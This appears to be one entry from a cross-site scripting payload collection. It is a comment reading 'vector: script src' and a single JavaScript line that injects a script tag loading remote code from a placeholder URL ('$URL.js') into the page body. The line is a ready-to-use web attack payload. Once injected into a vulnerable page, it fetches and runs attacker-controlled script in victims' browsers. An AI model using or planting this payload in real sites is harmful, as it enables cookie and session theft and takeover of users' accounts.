// vector: script src
document.body.append(Object.assign(document.createElement("script"), { src: "$URL.js" }));
